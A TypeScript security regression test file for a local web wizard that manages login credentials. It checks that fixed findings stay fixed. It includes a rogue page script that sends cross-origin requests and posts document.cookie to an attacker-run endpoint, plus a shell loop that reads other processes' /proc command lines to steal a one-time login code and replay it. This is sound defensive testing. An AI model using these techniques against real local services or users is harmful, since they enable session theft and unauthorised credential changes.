/**
 * The web wizard's findings, replayed:
 *  - the cookie carried the API token, and browsers send 127.0.0.1 cookies to every port: a rogue
 *    local service on another port got it and moved the credentials file aside. Now the user opens
 *    the real wizard in Chromium, then visits the rogue service: it receives no cookie and nothing
 *    it can use, and the login file stays where it is;
 *  - the token was on xdg-open's command line: a second local user reads the browser's
 *    /proc/PID/cmdline; the link there carries a one-time code, already dead once the page loaded;
 *  - a busy `--port` and a malformed %-escape ended as internal errors.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CHROMIUM_SKIP, launchBrowser, repoRoot, startWizard, type RunningWizard } from '../e2e/harness.js';
import { createWorld, type World } from '../e2e/world.js';
import { cliCommand, runCli } from '../helpers/cli.js';
import { codeOf, exchangeCode } from '../helpers/web-session.js';
import { makeUser, SECOND_USER_SKIP, type ThrowawayUser } from './second-user.js';

interface Seen {
  readonly method: string;
  readonly path: string;
  readonly headers: http.IncomingHttpHeaders;
}

/** A local service on another port that logs everything a browser sends it, then tries it on the wizard. */
async function rogueService(wizardPort: number): Promise<{ url: string; seen: Seen[]; close(): Promise<void> }> {
  const seen: Seen[] = [];
  const page = `<!doctype html><title>rogue</title><script>
    const target = 'http://127.0.0.1:${wizardPort}';
    const limit = () => AbortSignal.timeout(5000);
    window.done = Promise.all([
      fetch(target + '/api/fix:start', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '["reset-credentials"]', signal: limit() }).then((r) => r.status, (e) => 'blocked ' + e.name),
      fetch(target + '/session', { method: 'POST', credentials: 'include', body: '{}', signal: limit() }).then((r) => r.status, (e) => 'blocked ' + e.name),
      fetch('/report?c=' + encodeURIComponent(document.cookie), { signal: limit() }).then(() => 'reported', (e) => 'not reported ' + e.name),
    ]);
  </script>`;
  const server = http.createServer((req, res) => {
    seen.push({ method: req.method ?? '', path: req.url ?? '', headers: req.headers });
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return { url: `http://127.0.0.1:${port}/`, seen, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

describe('a rogue service on another 127.0.0.1 port, with the wizard open in the same browser', { skip: CHROMIUM_SKIP }, () => {
  let world: World;
  let wizard: RunningWizard;
  before(async () => {
    world = await createWorld({ login: 'fresh' });
    wizard = await startWizard(world);
  });
  after(async () => {
    await wizard.close();
    await world.close();
  });

  test('gets no cookie and nothing it can use; the login file stays', { timeout: 150_000 }, async () => {
    const login = await readFile(world.credentialsPath);
    const browser = await launchBrowser();
    const rogue = await rogueService(wizard.host.port);
    try {
      const page = await browser.context.newPage();
      await page.goto(wizard.host.url, { timeout: 30_000 });
      // The page is up and has its session once the first report arrives (the checks run for real).
      await page.waitForSelector('.problem-list', { timeout: 90_000 });
      assert.equal(new URL(page.url()).search, '', 'the one-time code is dropped from the address bar');
      const session = await page.evaluate(() => sessionStorage.getItem('claude-auth-doctor.session'));
      assert.match(session ?? '', /^[A-Za-z0-9_-]{43}$/, 'the page holds a session token');
      assert.deepEqual(await browser.context.cookies(), [], 'the wizard set no cookie at all');

      const evil = await browser.context.newPage();
      await evil.goto(rogue.url, { timeout: 30_000 });
      const results = (await evil.evaluate('window.done')) as unknown[];
      assert.match(String(results[0]), /^blocked|^40[13]$/, `the API from the rogue origin: ${results[0]}`);
      assert.match(String(results[1]), /^blocked|^40[13]$/, `a session from the rogue origin: ${results[1]}`);
      const everything = JSON.stringify(rogue.seen);
      assert.ok(rogue.seen.length >= 2, 'the browser did talk to the rogue service');
      assert.ok(
        rogue.seen.every((s) => s.headers.cookie === undefined),
        `no cookie reached the rogue service: ${everything}`,
      );
      assert.ok(!everything.includes(session ?? 'no-session'), 'the session token never reached it');
      assert.ok(!everything.includes(codeOf(wizard.host.url)), 'nor the link code');

      // Whatever it saw, replayed from outside a browser (no Origin rules there), opens nothing.
      for (const s of rogue.seen) {
        for (const value of Object.values(s.headers).flat()) {
          if (typeof value !== 'string') continue;
          const replay = await exchangeCode(wizard.host.port, value);
          assert.notEqual(replay.status, 200, `a header value it saw opened a session: ${value}`);
        }
      }
      assert.deepEqual(await readFile(world.credentialsPath), login, 'the login file was not moved');
    } finally {
      await rogue.close();
      await browser.close();
    }
  });
});

describe('the link handed to the browser, read from /proc by another local user', { skip: SECOND_USER_SKIP }, () => {
  let other: ThrowawayUser;
  let dir: string;
  before(async () => {
    other = await makeUser();
    dir = await mkdtemp(join(tmpdir(), 'cad-opener-'));
    await chmod(dir, 0o755);
  });
  after(async () => {
    await other.remove();
    await rm(dir, { recursive: true, force: true });
  });

  test('carries a one-time code that is dead once the page loaded; the printed link is another one', { timeout: 90_000 }, async () => {
    // A stand-in for xdg-open + a browser: it loads the page (as a browser does: the code is traded
    // for a session), then stays alive with the link on its command line, as a browser does.
    const bin = join(dir, 'bin');
    await mkdir(bin, { mode: 0o755 });
    const opener = join(bin, 'xdg-open');
    const trade = `const u=new URL(process.argv[1]);const h=require('http');const r=h.request({host:u.hostname,port:u.port,method:'POST',path:'/session',headers:{origin:u.origin,'content-type':'application/json','x-doctor-code':u.searchParams.get('code')}},(s)=>{s.resume();s.on('end',()=>require('fs').writeFileSync(${JSON.stringify(join(dir, 'traded'))},String(s.statusCode)))});r.end('{}')`;
    await writeFile(
      opener,
      `#!/bin/sh\n${process.execPath} -e "${trade.replace(/"/g, '\\"')}" "$1"\necho $$ > ${JSON.stringify(join(dir, 'browser.pid'))}\nexec ${process.execPath} -e 'setTimeout(() => {}, 30000)' browser "$1"\n`,
      { mode: 0o755 },
    );
    await chmod(opener, 0o755);
    const world = await createWorld({ login: 'fresh' });
    const { file, args } = cliCommand();
    const child = spawn(file, [...args, 'wizard', '--web', '--offline'], {
      cwd: repoRoot(),
      env: { ...world.env, PATH: `${bin}:/usr/bin:/bin`, DISPLAY: ':99', NO_COLOR: '1' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    try {
      let out = '';
      child.stdout.on('data', (d: Buffer) => (out += d.toString()));
      let err = '';
      child.stderr.on('data', (d: Buffer) => (err += d.toString()));
      const printed = await new Promise<string>((resolve, reject) => {
        const timer = setTimeout(() => reject(new Error(`no link printed: ${out}`)), 30_000);
        child.stdout.on('data', () => {
          const found = /http:\/\/127\.0\.0\.1:\d+\/\?code=[A-Za-z0-9_-]+/.exec(out);
          if (found) {
            clearTimeout(timer);
            resolve(found[0]);
          }
        });
      });
      // Wait for the opener to have traded its code, then look at the process list as the other user does.
      for (let i = 0; i < 100 && !(await readFile(join(dir, 'traded'), 'utf8').catch(() => '')); i++)
        await new Promise((r) => setTimeout(r, 100));
      assert.equal(await readFile(join(dir, 'traded'), 'utf8'), '200', 'the "browser" opened the wizard');
      const ps = await other.run('/bin/sh', ['-c', 'for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline 2>/dev/null; echo; done'], {
        PATH: '/usr/bin:/bin',
      });
      const port = Number(new URL(printed).port);
      const stolen = new RegExp(`http://127\\.0\\.0\\.1:${port}/\\?code=[A-Za-z0-9_-]+`).exec(ps.stdout)?.[0];
      assert.ok(stolen, 'the other user can read the link on the browser’s command line (as in the finding)');
      assert.notEqual(stolen, printed, 'the browser got its own link, not the printed one');
      const replay = await other.run(
        process.execPath,
        [
          '-e',
          `
        const h=require('http');const r=h.request({host:'127.0.0.1',port:${port},method:'POST',path:'/session',headers:{origin:'http://127.0.0.1:${port}','content-type':'application/json','x-doctor-code':${JSON.stringify(codeOf(stolen))}}},(s)=>{s.resume();s.on('end',()=>process.stdout.write(String(s.statusCode)))});r.end('{}');
      `,
        ],
        { PATH: '/usr/bin:/bin' },
      );
      assert.equal(replay.stdout, '403', 'the stolen code is dead');
      assert.match(err, /A browser opened the wizard \(page 1\)\. If that was not you, press Ctrl-C/);
    } finally {
      child.kill('SIGINT');
      await new Promise((resolve) => child.once('close', resolve));
      const browserPid = Number(await readFile(join(dir, 'browser.pid'), 'utf8').catch(() => '0'));
      if (browserPid > 0) process.kill(browserPid, 'SIGKILL');
      await world.close();
    }
  });
});

describe('clear answers instead of internal errors', () => {
  test('wizard --web on a busy port: exit 3 with what to do, not "internal error"', { timeout: 60_000 }, async () => {
    const busy = http.createServer();
    await new Promise<void>((resolve) => busy.listen(0, '127.0.0.1', resolve));
    const port = (busy.address() as AddressInfo).port;
    const world = await createWorld({ login: 'fresh' });
    try {
      const run = await runCli(['wizard', '--web', '--no-open', '--offline', '--port', String(port)], {
        env: world.env,
        timeoutMs: 30_000,
      });
      assert.equal(run.code, 3);
      assert.match(run.stderr, new RegExp(`port ${port} is already in use on 127\\.0\\.0\\.1: pick another with --port`));
      assert.doesNotMatch(run.stderr, /internal error/);
    } finally {
      busy.close();
      await world.close();
    }
  });
});
